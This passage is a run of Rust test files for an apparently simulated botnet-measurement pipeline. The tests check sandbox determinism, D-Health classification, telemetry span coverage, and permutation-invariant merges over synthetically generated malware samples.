        PipelineOpts::fast().syn_retries >= 1,
        "PipelineOpts::fast() regressed to single-probe liveness"
    );
    let world = malnet_botgen::world::World::generate(malnet_botgen::world::WorldConfig {
        seed: 3,
        n_samples: 4,
        ..malnet_botgen::world::WorldConfig::default()
    });
    assert!(
        ProbeConfig::from_world(&world).syn_retries >= 1,
        "ProbeConfig::from_world() regressed to single-SYN discovery"
    );
}
