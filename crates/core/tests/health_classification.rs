//! D-Health classification totality and ordering.
//!
//! Two contracts the degradation accounting must keep:
//!
//! * **totality** — every exit class the pipeline can produce
//!   (`exited`, `fault`, `budget`, `deadline`) has a defined D-Health
//!   classification, with and without injected emulator faults, and
//!   every `HealthKind` variant (including `EmuFault`) is reachable;
//! * **merge order** — D-Health rows are appended by the coordinator's
//!   B1 merge loop in `(day, sample-id)` order, so the section reads
//!   chronologically no matter how phase A was scheduled.

use malnet_botgen::world::{World, WorldConfig};
use malnet_core::chaos::FaultPlan;
use malnet_core::datasets::HealthKind;
use malnet_core::pipeline::{degraded_kind, exit_class, Pipeline, PipelineOpts};

/// Every exit-label shape the sandbox can emit, bucketed by class.
const LABELS: &[(&str, &str)] = &[
    ("exited(0)", "exited"),
    ("exited(7)", "exited"),
    ("exited(127)", "exited"),
    ("fault: unloadable ELF", "fault"),
    ("fault: segfault @0x0", "fault"),
    ("budget", "budget"),
    ("deadline", "deadline"),
];

#[test]
fn every_exit_class_has_a_total_classification() {
    for &(label, expected_class) in LABELS {
        let class = exit_class(label);
        assert_eq!(class, expected_class, "label {label:?} misclassified");
        for emu_injected in [false, true] {
            let kind = degraded_kind(class, emu_injected);
            let expected = match (class, emu_injected) {
                ("fault", true) | ("budget", true) => Some(HealthKind::EmuFault),
                ("fault", false) => Some(HealthKind::SandboxFault),
                ("budget", false) => Some(HealthKind::BudgetExhausted),
                ("exited", _) | ("deadline", _) => None,
                other => panic!("unhandled exit class {other:?}"),
            };
            assert_eq!(
                kind, expected,
                "degraded_kind({class:?}, emu_injected={emu_injected}) drifted"
            );
        }
    }
}

/// Injected emulator faults reclassify only genuine degradation: a run
/// that exits cleanly or runs out the clock is never blamed on chaos.
#[test]
fn emu_faults_never_reclassify_healthy_exits() {
    assert_eq!(degraded_kind("exited", true), None);
    assert_eq!(degraded_kind("deadline", true), None);
    assert_eq!(degraded_kind("fault", true), Some(HealthKind::EmuFault));
    assert_eq!(degraded_kind("budget", true), Some(HealthKind::EmuFault));
}

/// D-Health rows arrive in `(day, sample-id)` merge order at every
/// parallelism level, and the order is identical across levels.
#[test]
fn health_rows_stay_in_merge_order_under_parallelism() {
    let world = World::generate(WorldConfig {
        seed: 909,
        n_samples: 40,
        ..WorldConfig::default()
    });
    let run = |par: usize| {
        let opts = PipelineOpts {
            seed: 909,
            parallelism: par,
            max_samples: Some(30),
            faults: FaultPlan::chaos(7),
            syn_retries: 1,
            ..PipelineOpts::fast()
        };
        Pipeline::new(opts).run(&world).0
    };
    let sample_idx = |sha: &str| {
        world
            .samples
            .iter()
            .position(|s| s.sha256 == sha)
            .unwrap_or_else(|| panic!("D-Health row for unknown sample {sha}"))
    };
    let base_rows = run(1).health.rows;
    assert!(
        base_rows.len() >= 2,
        "chaos run produced too few degradation rows to order-check"
    );
    let keys: Vec<(u32, usize)> = base_rows
        .iter()
        .map(|r| (r.day, sample_idx(&r.sha256)))
        .collect();
    let mut sorted = keys.clone();
    sorted.sort_unstable();
    assert_eq!(keys, sorted, "D-Health rows out of (day, sample-id) order");
    for par in [2usize, 8] {
        assert_eq!(
            base_rows,
            run(par).health.rows,
            "D-Health rows diverged at parallelism={par}"
        );
    }
}
