//! Full-system differential proof for the block-cached interpreter:
//! running real botgen-emitted malware through the sandbox with the
//! block engine ON must produce artifacts byte-identical to the legacy
//! stepping oracle — per family, and for deliberately damaged binaries
//! (truncated and bit-flipped ELFs).
//!
//! This is the sandbox-level complement to the mips-level lockstep
//! proptests (`crates/mips/tests/differential.rs`): those pin the CPU
//! state transition by transition; this pins everything the study
//! actually consumes — pcap bytes, exit reasons, instruction counts,
//! syscall counts, DNS logs, exploit captures.

use std::collections::HashSet;
use std::net::Ipv4Addr;

use malnet_botgen::world::{World, WorldConfig};
use malnet_netsim::net::Network;
use malnet_netsim::time::{SimDuration, SimTime};
use malnet_sandbox::{AnalysisMode, Artifacts, Sandbox, SandboxConfig};

const BOT: Ipv4Addr = Ipv4Addr::new(100, 64, 0, 2);

fn run_once(elf: &[u8], seed: u64, block_engine: bool) -> Artifacts {
    let mut sb = Sandbox::new(
        Network::new(SimTime::from_day(0, 0), seed ^ 0xd1ff),
        SandboxConfig {
            bot_ip: BOT,
            mode: AnalysisMode::Contained,
            handshaker_threshold: Some(5),
            instruction_budget: 40_000_000,
            seed,
            block_engine,
            ..SandboxConfig::default()
        },
    );
    sb.execute(elf, SimDuration::from_secs(90))
}

fn assert_identical_artifacts(elf: &[u8], seed: u64, what: &str) {
    let oracle = run_once(elf, seed, false);
    let block = run_once(elf, seed, true);
    assert_eq!(oracle.exit, block.exit, "{what}: exit reason diverged");
    assert_eq!(
        oracle.instructions, block.instructions,
        "{what}: retired instruction count diverged"
    );
    assert_eq!(
        oracle.syscalls, block.syscalls,
        "{what}: syscall count diverged"
    );
    assert_eq!(oracle.pcap, block.pcap, "{what}: pcap bytes diverged");
    assert_eq!(
        oracle.dns_queries, block.dns_queries,
        "{what}: DNS log diverged"
    );
    assert_eq!(
        oracle.exploits, block.exploits,
        "{what}: exploit captures diverged"
    );
}

/// Every family in the generated corpus runs bit-identically under both
/// engines. The world is sized so all seven families appear.
#[test]
fn all_families_identical_under_both_engines() {
    let world = World::generate(WorldConfig {
        seed: 9090,
        n_samples: 24,
        ..WorldConfig::default()
    });
    let mut seen = HashSet::new();
    for s in &world.samples {
        // One representative per family keeps the test fast; corrupted
        // samples are covered by the damage tests below.
        if !seen.insert(s.family) {
            continue;
        }
        assert_identical_artifacts(&s.elf, 1000 + s.id as u64, &format!("{:?}", s.family));
    }
    assert!(
        seen.len() >= 4,
        "world too small to cover families: {seen:?}"
    );
}

/// Truncated binaries — cut at awkward offsets, including mid-`.text`
/// so programs run off the end of the mapped segment — behave
/// identically (unloadable, faulting, or even running a prefix).
#[test]
fn truncated_elves_identical_under_both_engines() {
    let world = World::generate(WorldConfig {
        seed: 31337,
        n_samples: 4,
        ..WorldConfig::default()
    });
    let elf = &world.samples[0].elf;
    for cut in [0, 13, 52, 100, elf.len() / 2, elf.len() - 7, elf.len() - 1] {
        let cut = cut.min(elf.len());
        assert_identical_artifacts(&elf[..cut], 777, &format!("truncated at {cut}"));
    }
}

/// Bit-flipped binaries: corrupted headers (often unloadable) and
/// corrupted `.text` (illegal instructions, wild branches) both produce
/// byte-identical artifacts under the two engines.
#[test]
fn bitflipped_elves_identical_under_both_engines() {
    let world = World::generate(WorldConfig {
        seed: 4242,
        n_samples: 4,
        ..WorldConfig::default()
    });
    let base = &world.samples[1].elf;
    // Deterministic pseudo-random flip positions (no wall-clock, no OS
    // RNG — this suite must stay reproducible).
    let mut x = 0x2545_f491u64;
    for round in 0..12 {
        let mut elf = base.clone();
        for _ in 0..=(round % 5) {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            let pos = (x as usize) % elf.len();
            let bit = (x >> 32) as u32 % 8;
            elf[pos] ^= 1 << bit;
        }
        assert_identical_artifacts(&elf, 555 + round, &format!("bitflip round {round}"));
    }
}
