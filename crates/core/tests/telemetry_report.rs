//! Integration coverage for the instrumented pipeline.
//!
//! Runs the `fast()` study with telemetry enabled and checks the run
//! report names every stage the pipeline claims to instrument, that the
//! JSON serialization round-trips through `malnet_telemetry::json`, and
//! that a worker panic in the phase-A fan-out is quarantined into its
//! own batch slot instead of aborting the batch.

use malnet_botgen::world::{World, WorldConfig};
use malnet_core::pipeline::{run_contained_batch, Pipeline, PipelineOpts};
use malnet_telemetry::{json, Telemetry};

fn test_world(seed: u64, n_samples: usize) -> World {
    World::generate(WorldConfig {
        seed,
        n_samples,
        ..WorldConfig::default()
    })
}

/// Every stage span and counter the full study must populate. Mirrors
/// the CI gate in `malnet-bench`'s `run_report` binary.
#[test]
fn run_report_covers_every_stage() {
    let world = test_world(11, 48);
    let tel = Telemetry::enabled();
    let opts = PipelineOpts {
        seed: 11,
        parallelism: 2,
        max_samples: Some(48),
        ..PipelineOpts::fast()
    };
    Pipeline::with_telemetry(opts, tel.clone()).run(&world);
    let report = tel.report();

    for span in [
        "pipeline.run",
        "pipeline.epoch",
        "pipeline.day",
        "pipeline.phase_a",
        "pipeline.phase_b",
        "pipeline.contained_sample",
        "pipeline.merge",
        "pipeline.restricted_session",
        "pipeline.ddos_eavesdrop",
        "pipeline.reduce",
        "pipeline.liveness_sweep",
        "pipeline.liveness_probe",
        "pipeline.probing",
        "pipeline.late_query",
        "prober.round",
        "sandbox.exec",
    ] {
        let s = report
            .span(span)
            .unwrap_or_else(|| panic!("missing span {span:?}"));
        assert!(s.calls > 0, "span {span:?} never entered");
        assert!(s.self_us <= s.total_us, "span {span:?} self > total");
    }

    // Span-tree nesting: worker spans must land *under* their
    // coordinator phase span, not as top-level siblings — the bug was
    // that crossing the fan-out thread boundary dropped the parent.
    for (span, parent) in [
        ("pipeline.epoch", "pipeline.run"),
        ("pipeline.day", "pipeline.epoch"),
        ("pipeline.phase_a", "pipeline.day"),
        ("pipeline.phase_b", "pipeline.day"),
        ("pipeline.contained_sample", "pipeline.phase_a"),
        ("pipeline.merge", "pipeline.phase_b"),
        ("pipeline.restricted_session", "pipeline.phase_b"),
        ("pipeline.ddos_eavesdrop", "pipeline.phase_b"),
        ("pipeline.reduce", "pipeline.run"),
        ("pipeline.liveness_sweep", "pipeline.reduce"),
        ("pipeline.liveness_probe", "pipeline.liveness_sweep"),
        ("pipeline.probing", "pipeline.run"),
        ("prober.round", "pipeline.probing"),
    ] {
        let s = report
            .span(span)
            .unwrap_or_else(|| panic!("missing span {span:?}"));
        assert_eq!(
            s.parent.as_deref(),
            Some(parent),
            "span {span:?} is not nested under {parent:?}"
        );
    }
    // And the re-attached child time is actually credited: the phase
    // spans spend most of their time inside worker spans, so their self
    // time must be strictly below their total.
    for phase in ["pipeline.phase_a", "pipeline.phase_b"] {
        let s = report.span(phase).unwrap();
        assert!(
            s.self_us < s.total_us,
            "{phase}: worker child time was not credited (self {} >= total {})",
            s.self_us,
            s.total_us
        );
    }
    for counter in [
        "pipeline.samples_analyzed",
        "pipeline.samples_activated",
        "pipeline.c2_candidates",
        "prober.probes_sent",
        "sandbox.instructions_retired",
        "sandbox.syscalls_serviced",
        "netsim.packets_delivered",
        "netsim.dns_queries",
        "wire.pcap_bytes_encoded",
        "wire.pcap_records_encoded",
    ] {
        let v = report
            .counter(counter)
            .unwrap_or_else(|| panic!("missing counter {counter:?}"));
        assert!(v > 0, "counter {counter:?} is zero");
    }
    let hist = report
        .histogram("sandbox.instructions_per_run")
        .expect("instructions histogram");
    assert_eq!(
        hist.count,
        report.counter("sandbox.runs").unwrap(),
        "one histogram observation per sandbox run"
    );
    assert!(!report.rollups.is_empty(), "no per-day rollups");

    // The serialized report is valid, versioned JSON.
    let v = json::parse(&report.to_json()).expect("report JSON parses");
    assert_eq!(
        v.get("schema").and_then(|s| s.as_str()),
        Some("malnet.run_report")
    );
    assert_eq!(v.get("version").and_then(|n| n.as_u64()), Some(1));
}

/// A panicking contained run must be quarantined into its own batch
/// slot — the other samples' outcomes are unaffected and the batch does
/// not abort (and must not die as a `PoisonError` on the slot mutex).
#[test]
fn phase_a_panic_is_quarantined_per_sample() {
    let world = test_world(5, 8);
    let opts = PipelineOpts {
        seed: 5,
        parallelism: 4,
        ..PipelineOpts::fast()
    };
    // An out-of-range sample id makes exactly one worker's run panic.
    let batch = vec![0usize, 1, 9999, 2];
    let tel = Telemetry::disabled();
    let outcomes = run_contained_batch(&world, &opts, 3, &batch, &tel);
    assert_eq!(outcomes.len(), batch.len());
    for (i, out) in outcomes.iter().enumerate() {
        if batch[i] == 9999 {
            let q = out.as_ref().expect_err("bad sample id must quarantine");
            assert_eq!(q.sample_id, 9999);
            assert!(
                !q.detail.is_empty(),
                "quarantine detail must carry the panic"
            );
        } else {
            let ok = out
                .as_ref()
                .unwrap_or_else(|q| panic!("sample {} quarantined: {q:?}", batch[i]));
            assert_eq!(ok.sample_id, batch[i]);
        }
    }

    // The sequential path (parallelism 1) reports identically.
    let opts_seq = PipelineOpts {
        parallelism: 1,
        ..opts
    };
    let seq = run_contained_batch(&world, &opts_seq, 3, &batch, &tel);
    assert_eq!(
        seq, outcomes,
        "quarantine outcomes differ across parallelism"
    );
}
