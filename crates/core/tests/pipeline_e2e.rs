//! Full pipeline integration: a small world, the complete daily loop,
//! and sanity checks across all five datasets.

use malnet_botgen::world::{Calibration, World, WorldConfig};
use malnet_core::eval::evaluate;
use malnet_core::{Pipeline, PipelineOpts};

fn small_world() -> World {
    World::generate(WorldConfig {
        seed: 33,
        n_samples: 60,
        cal: Calibration::default(),
    })
}

#[test]
fn pipeline_produces_all_five_datasets() {
    let world = small_world();
    let opts = PipelineOpts {
        max_samples: Some(60),
        ..PipelineOpts::fast()
    };
    let (data, _vendors) = Pipeline::new(opts).run(&world);

    // D-Samples: every analyzed sample recorded.
    assert_eq!(data.samples.len(), 60);
    // Most samples activate (paper: ~90%).
    let activated = data.samples.iter().filter(|s| s.activated).count();
    assert!(activated >= 48, "activation too low: {activated}/60");

    // D-C2s: non-trivial C2 discovery.
    assert!(
        data.c2s.len() >= 15,
        "too few C2 addresses: {}",
        data.c2s.len()
    );
    // Some were alive on day 0 and produced lifespan observations.
    let live_seen = data
        .c2s
        .values()
        .filter(|r| !r.live_days.is_empty())
        .count();
    assert!(live_seen >= 3, "no liveness observations: {live_seen}");

    // D-Exploits: exploiting samples produced classified payloads.
    assert!(!data.exploits.is_empty(), "handshaker produced no exploits");
    assert!(data.exploits.iter().all(|e| !e.vulns.is_empty()));
    assert!(data
        .exploits
        .iter()
        .all(|e| e.downloader.is_some() && e.loader.is_some()));

    // D-PC2: probing found at least one responding server.
    assert!(!data.probed.is_empty(), "probing found nothing");

    // D-DDOS: at least one attack command decoded and verified.
    assert!(!data.ddos.is_empty(), "no DDoS commands observed");
    assert!(data.ddos.iter().all(|d| d.verified));
    // Packet floods clear the behavioural threshold; connection-oriented
    // attacks (STOMP/TLS) are low-rate and caught by the profiler only.
    assert!(data
        .ddos
        .iter()
        .filter(|d| matches!(
            d.detection,
            malnet_core::datasets::DdosDetection::Behavioral
                | malnet_core::datasets::DdosDetection::Both
        ))
        .all(|d| d.measured_pps >= 100));
    assert!(data.ddos.iter().any(|d| d.measured_pps >= 100));
}

#[test]
fn instruments_score_well_against_ground_truth() {
    let world = small_world();
    let opts = PipelineOpts {
        max_samples: Some(60),
        run_probing: false,
        ..PipelineOpts::fast()
    };
    let (data, _) = Pipeline::new(opts).run(&world);
    let report = evaluate(&world, &data);
    // The paper cites ~90% activation and ~90% C2 precision.
    assert!(
        report.activation_rate >= 80.0,
        "activation {}",
        report.activation_rate
    );
    assert!(
        report.c2_precision >= 85.0,
        "precision {}\n{report}",
        report.c2_precision
    );
    assert!(
        report.c2_recall >= 70.0,
        "recall {}\n{report}",
        report.c2_recall
    );
    assert!(
        report.label_accuracy >= 90.0,
        "labels {}\n{report}",
        report.label_accuracy
    );
    assert!(
        report.ddos_recall >= 50.0,
        "ddos recall {}\n{report}",
        report.ddos_recall
    );
}

#[test]
fn pipeline_is_deterministic() {
    let world = small_world();
    let mk = || {
        let opts = PipelineOpts {
            max_samples: Some(12),
            run_probing: false,
            ..PipelineOpts::fast()
        };
        Pipeline::new(opts).run(&world).0
    };
    let a = mk();
    let b = mk();
    assert_eq!(a.samples.len(), b.samples.len());
    assert_eq!(a.c2s.len(), b.c2s.len());
    assert_eq!(a.ddos.len(), b.ddos.len());
    let ka: Vec<&String> = a.c2s.keys().collect();
    let kb: Vec<&String> = b.c2s.keys().collect();
    assert_eq!(ka, kb);
}
