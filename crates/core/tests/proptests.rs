//! Property tests for the analysis layer: statistics invariants and
//! extractor totality on arbitrary traffic.

use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use std::sync::OnceLock;

use proptest::prelude::*;

use malnet_botgen::world::{World, WorldConfig};
use malnet_core::ddos;
use malnet_core::pipeline::{
    contained_activation, merge_epoch_results, run_day_epochs, seed_inventory, EpochResult,
    PipelineOpts,
};
use malnet_core::prober::{merge_round_results, RoundResult};
use malnet_core::stats::{Cdf, Counter};
use malnet_prng::SeedableRng;
use malnet_protocols::Family;
use malnet_telemetry::Telemetry;
use malnet_wire::packet::Packet;
use malnet_wire::tcp::TcpFlags;

/// A small world shared by the permutation-invariance cases (generation
/// is the expensive part; the property only needs a fixed corpus).
fn perm_world() -> &'static World {
    static WORLD: OnceLock<World> = OnceLock::new();
    WORLD.get_or_init(|| {
        World::generate(WorldConfig {
            seed: 4242,
            n_samples: 10,
            ..WorldConfig::default()
        })
    })
}

fn arb_packet() -> impl Strategy<Value = (u64, Packet)> {
    (
        any::<u32>().prop_map(u64::from),
        any::<u32>(),
        any::<u32>(),
        any::<u16>(),
        any::<u16>(),
        prop_oneof![Just(true), Just(false)],
        proptest::collection::vec(any::<u8>(), 0..48),
    )
        .prop_map(|(ts, src, dst, sp, dp, tcp, payload)| {
            let p = if tcp {
                Packet::tcp(
                    Ipv4Addr::from(src),
                    sp,
                    Ipv4Addr::from(dst),
                    dp,
                    1,
                    0,
                    TcpFlags::PSH_ACK,
                    payload,
                )
            } else {
                Packet::udp(Ipv4Addr::from(src), sp, Ipv4Addr::from(dst), dp, payload)
            };
            (ts, p)
        })
}

/// Arbitrary per-round prober results: up to 12 rounds (distinct round
/// numbers) of engagements and banner filters over a small (ip, port)
/// grid, mimicking what `probe_round` emits.
fn arb_probe_pair() -> impl Strategy<Value = (Ipv4Addr, u16)> {
    (0u8..6, prop_oneof![Just(23u16), Just(2323), Just(80)])
        .prop_map(|(h, p)| (Ipv4Addr::new(10, 0, 0, h), p))
}

fn arb_round_results() -> impl Strategy<Value = Vec<RoundResult>> {
    proptest::collection::vec(
        (
            proptest::collection::vec((arb_probe_pair(), any::<bool>()), 0..12),
            proptest::collection::vec(arb_probe_pair(), 0..4),
        ),
        0..12,
    )
    .prop_map(|rounds| {
        rounds
            .into_iter()
            .enumerate()
            .map(|(i, (engagements, banner_filtered))| RoundResult {
                round: i as u32,
                engagements,
                banner_filtered,
            })
            .collect()
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    /// The prober's merge is permutation-invariant: feeding per-round
    /// results to `merge_round_results` in any arrival order yields the
    /// same discovered-C2 list — the property that lets a day's rounds
    /// fan out over worker threads and complete in any order.
    #[test]
    fn prober_merge_is_permutation_invariant(
        rounds in arb_round_results(),
        perm_seed in any::<u64>(),
    ) {
        let canonical = merge_round_results(rounds.clone());
        // Structural invariants of the merge itself.
        for p in &canonical {
            prop_assert!(p.responses() >= 1, "non-engaging server survived: {p:?}");
            prop_assert!(
                p.probes.windows(2).all(|w| w[0].0 <= w[1].0),
                "probe log out of round order: {p:?}"
            );
        }
        let mut shuffled = rounds;
        let mut rng = malnet_prng::StdRng::seed_from_u64(perm_seed);
        malnet_prng::seq::SliceRandom::shuffle(&mut shuffled[..], &mut rng);
        prop_assert_eq!(canonical, merge_round_results(shuffled));
    }

    /// CDF invariants: monotone, bounded, quantiles within data range.
    #[test]
    fn cdf_invariants(values in proptest::collection::vec(0u64..10_000, 1..200)) {
        let cdf = Cdf::new(values.clone());
        let mut last = 0.0f64;
        for x in [0u64, 1, 10, 100, 1000, 10_000] {
            let v = cdf.at(x);
            prop_assert!((0.0..=1.0).contains(&v));
            prop_assert!(v >= last);
            last = v;
        }
        prop_assert!((cdf.at(cdf.max()) - 1.0).abs() < 1e-9);
        let min = *values.iter().min().unwrap();
        let max = *values.iter().max().unwrap();
        for q in [0.0, 0.25, 0.5, 0.75, 1.0] {
            let v = cdf.quantile(q);
            prop_assert!((min..=max).contains(&v));
        }
        prop_assert!(cdf.mean() >= min as f64 && cdf.mean() <= max as f64);
    }

    /// Counter totals equal the sum of entries in any order.
    #[test]
    fn counter_conservation(keys in proptest::collection::vec(0u8..20, 0..200)) {
        let mut c = Counter::new();
        for k in &keys {
            c.add(*k);
        }
        prop_assert_eq!(c.total() as usize, keys.len());
        let sum: u64 = c.sorted().iter().map(|(_, n)| n).sum();
        prop_assert_eq!(sum as usize, keys.len());
    }

    /// The DDoS extractor is total over arbitrary packet soups, for every
    /// family profile and threshold, and everything it returns satisfies
    /// its own invariants.
    #[test]
    fn ddos_extractor_total(
        pkts in proptest::collection::vec(arb_packet(), 0..120),
        fam_idx in 0usize..7,
        pps in prop_oneof![Just(1u64), Just(100), Just(100_000)],
    ) {
        let bot = Ipv4Addr::new(100, 64, 0, 2);
        let c2 = Ipv4Addr::new(10, 1, 0, 5);
        let mut pkts = pkts;
        pkts.sort_by_key(|(ts, _)| *ts);
        let out = ddos::extract(&pkts, bot, c2, Some(Family::ALL[fam_idx]), pps);
        for e in &out {
            prop_assert!(e.command.duration_secs < 1 << 31);
            // Behavioural detections always carry rate evidence.
            if matches!(e.detection, malnet_core::datasets::DdosDetection::Behavioral) {
                prop_assert!(e.measured_pps >= pps);
            }
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Domain separation across the whole study, epoch axis included:
    /// no two *distinct* sub-seed streams a study draws — per-(day,
    /// sample) sandbox/net streams, per-sample AV-consensus draws,
    /// per-day world networks, per-(day, address) liveness-oracle
    /// networks, per-address vendor-feed streams — may ever share a
    /// seed, for any master seed. A collision would silently correlate
    /// two "independent" RNG streams, which is exactly the failure mode
    /// the epoch refactor's purity arguments rule out.
    #[test]
    fn sub_seed_domains_never_collide(master in any::<u64>()) {
        let world = perm_world();
        let opts = PipelineOpts { seed: master, ..PipelineOpts::fast() };
        let inventory = seed_inventory(world, &opts);
        prop_assert!(inventory.len() > 1000, "inventory too small to audit");
        let mut by_seed: BTreeMap<u64, &str> = BTreeMap::new();
        for (label, seed) in &inventory {
            if let Some(prev) = by_seed.insert(*seed, label) {
                // Labels are unique by construction, so any repeat of a
                // seed is a cross-stream collision.
                prop_assert_eq!(
                    prev, label,
                    "sub-seed collision at {:#018x}", seed
                );
            }
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(8))]

    /// Merge-order permutation invariance, the property the parallel
    /// pipeline rests on: phase A (`contained_activation`) is a pure
    /// function of `(world, opts, day, sample_id)`, so computing a
    /// batch's outcomes in *any* order yields the same per-sample result
    /// — and a merge that consumes them in sample-id order therefore
    /// cannot observe the schedule.
    #[test]
    fn contained_activation_is_permutation_invariant(
        seed in prop_oneof![Just(5u64), Just(77), Just(4242)],
        perm_seed in any::<u64>(),
        day in 0u32..200,
    ) {
        let world = perm_world();
        let opts = PipelineOpts {
            seed,
            contained_secs: 40,
            handshaker_threshold: 5,
            ..PipelineOpts::fast()
        };
        let batch: Vec<usize> = (0..world.samples.len()).collect();
        // Canonical order, telemetry off.
        let off = malnet_telemetry::Telemetry::disabled();
        let canonical: Vec<_> = batch
            .iter()
            .map(|&id| contained_activation(world, &opts, day, id, &off))
            .collect();
        // A deterministic pseudo-random permutation of the same batch,
        // with telemetry *on*: neither the schedule nor the
        // instrumentation may change a single outcome byte.
        let on = malnet_telemetry::Telemetry::enabled();
        let mut permuted_ids = batch.clone();
        let mut rng = malnet_prng::StdRng::seed_from_u64(perm_seed);
        malnet_prng::seq::SliceRandom::shuffle(&mut permuted_ids[..], &mut rng);
        for &id in &permuted_ids {
            let out = contained_activation(world, &opts, day, id, &on);
            prop_assert_eq!(&out, &canonical[id], "sample {} diverged", id);
        }
    }
}

/// A fixed epoch-sharded study run once (epochs are the expensive
/// part), plus its canonical merge dumps: the permutation property only
/// needs the same epoch vector fed to the reduce in different orders.
fn epoch_fixture() -> &'static (PipelineOpts, Vec<EpochResult>, String, String) {
    static FIXTURE: OnceLock<(PipelineOpts, Vec<EpochResult>, String, String)> = OnceLock::new();
    FIXTURE.get_or_init(|| {
        let world = perm_world();
        let opts = PipelineOpts {
            seed: 77,
            contained_secs: 40,
            restricted_secs: 60,
            handshaker_threshold: 5,
            day_shards: 4,
            track_max_days: 6,
            run_probing: false,
            ..PipelineOpts::fast()
        };
        let tel = Telemetry::disabled();
        let epochs = run_day_epochs(world, &opts, &tel);
        assert!(epochs.len() >= 2, "fixture must produce several epochs");
        let (data, vendors) = merge_epoch_results(world, &opts, epochs.clone(), &tel);
        let data_dump = data.canonical_dump();
        let vendor_dump = vendors.canonical_dump();
        (opts, epochs, data_dump, vendor_dump)
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(8))]

    /// The epoch reduce is permutation-invariant: merging the same
    /// epoch results in *any* arrival order yields byte-identical
    /// `Datasets` and `VendorDb` canonical dumps — the property that
    /// lets epochs complete on the pool in any schedule. (The mirror of
    /// `prober_merge_is_permutation_invariant`, one level up.)
    #[test]
    fn epoch_merge_is_permutation_invariant(perm_seed in any::<u64>()) {
        let (opts, epochs, data_dump, vendor_dump) = epoch_fixture();
        let mut shuffled = epochs.clone();
        let mut rng = malnet_prng::StdRng::seed_from_u64(perm_seed);
        malnet_prng::seq::SliceRandom::shuffle(&mut shuffled[..], &mut rng);
        let (data, vendors) =
            merge_epoch_results(perm_world(), opts, shuffled, &Telemetry::disabled());
        prop_assert_eq!(&data.canonical_dump(), data_dump, "datasets diverged");
        prop_assert_eq!(&vendors.canonical_dump(), vendor_dump, "vendor db diverged");
    }
}
