//! Differential proof of the parallel pipeline's determinism.
//!
//! The contained-activation stage may fan out over worker threads
//! (`PipelineOpts::parallelism`), but the study's outputs must not
//! depend on scheduling. These tests run the same world through the
//! pipeline at parallelism 1 (the legacy sequential path), 2, and 8,
//! across several master seeds, and require the canonical serializations
//! of both the datasets and the vendor-feed state to be byte-identical.

use malnet_botgen::world::{World, WorldConfig};
use malnet_core::pipeline::{Pipeline, PipelineOpts};

/// A world small enough to run three times per seed in a test, with
/// enough samples per day that the parallel batches are non-trivial.
fn test_world(seed: u64) -> World {
    World::generate(WorldConfig {
        seed,
        n_samples: 40,
        ..WorldConfig::default()
    })
}

fn run_dumps(world: &World, seed: u64, parallelism: usize) -> (String, String) {
    let opts = PipelineOpts {
        seed,
        parallelism,
        max_samples: Some(30),
        ..PipelineOpts::fast()
    };
    let (data, vendors) = Pipeline::new(opts).run(world);
    (data.canonical_dump(), vendors.canonical_dump())
}

/// The core differential: for each master seed, parallelism ∈ {1, 2, 8}
/// produce byte-identical datasets and vendor state.
#[test]
fn parallelism_is_invisible_in_output() {
    for seed in [7u64, 22, 1009] {
        let world = test_world(seed);
        let (base_data, base_vendors) = run_dumps(&world, seed, 1);
        assert!(
            base_data.contains("== D-Samples =="),
            "dump looks malformed"
        );
        for par in [2usize, 8] {
            let (data, vendors) = run_dumps(&world, seed, par);
            assert_eq!(
                base_data, data,
                "datasets diverged at parallelism={par}, seed={seed}"
            );
            assert_eq!(
                base_vendors, vendors,
                "vendor state diverged at parallelism={par}, seed={seed}"
            );
        }
    }
}

/// Re-running the *same* configuration twice is also byte-stable (no
/// hidden global state, time, or address-based ordering anywhere).
#[test]
fn repeat_runs_are_byte_stable() {
    let world = test_world(501);
    let first = run_dumps(&world, 501, 4);
    let second = run_dumps(&world, 501, 4);
    assert_eq!(first, second);
}

/// A parallelism knob far larger than the batch is clamped to the batch
/// and still deterministic (workers simply find the queue drained).
#[test]
fn oversubscribed_parallelism_is_safe() {
    let world = test_world(90);
    let base = run_dumps(&world, 90, 1);
    let over = run_dumps(&world, 90, 64);
    assert_eq!(base, over);
}
