//! Differential proof of the parallel pipeline's determinism.
//!
//! The contained-activation stage may fan out over worker threads
//! (`PipelineOpts::parallelism`), but the study's outputs must not
//! depend on scheduling. These tests run the same world through the
//! pipeline at parallelism 1 (the legacy sequential path), 2, and 8,
//! across several master seeds, and require the canonical serializations
//! of both the datasets and the vendor-feed state to be byte-identical.
//!
//! Telemetry rides the same differential: an instrumented run
//! (`Pipeline::with_telemetry`) must produce the same bytes as an
//! uninstrumented one at every parallelism level, and the telemetry
//! *counters* themselves — being commutative atomic adds driven only by
//! simulation events — must agree across parallelism levels too.
//!
//! The day-shard axis (`PipelineOpts::day_shards`) joins the matrix at
//! the bottom of the file: splitting the study into mergeable day-range
//! epochs must be invisible in the datasets, the vendor state, and the
//! (wall-clock-masked) event stream.

use malnet_botgen::world::{World, WorldConfig};
use malnet_core::chaos::FaultPlan;
use malnet_core::pipeline::{Pipeline, PipelineOpts};
use malnet_telemetry::Telemetry;

/// A world small enough to run three times per seed in a test, with
/// enough samples per day that the parallel batches are non-trivial.
fn test_world(seed: u64) -> World {
    World::generate(WorldConfig {
        seed,
        n_samples: 40,
        ..WorldConfig::default()
    })
}

fn run_dumps_with(
    world: &World,
    seed: u64,
    parallelism: usize,
    tel: Telemetry,
) -> (String, String) {
    let opts = PipelineOpts {
        seed,
        parallelism,
        max_samples: Some(30),
        ..PipelineOpts::fast()
    };
    let (data, vendors) = Pipeline::with_telemetry(opts, tel).run(world);
    (data.canonical_dump(), vendors.canonical_dump())
}

fn run_dumps(world: &World, seed: u64, parallelism: usize) -> (String, String) {
    run_dumps_with(world, seed, parallelism, Telemetry::disabled())
}

/// Mask the digits after every `"<field>":` occurrence — for comparing
/// event streams across configurations that legitimately differ in a
/// wall-clock or echoed-config field.
fn mask_field(stream: &str, field: &str) -> String {
    let needle = format!("\"{field}\":");
    let mut out = String::with_capacity(stream.len());
    let mut rest = stream;
    while let Some(at) = rest.find(&needle) {
        let digits_at = at + needle.len();
        out.push_str(&rest[..digits_at]);
        out.push('X');
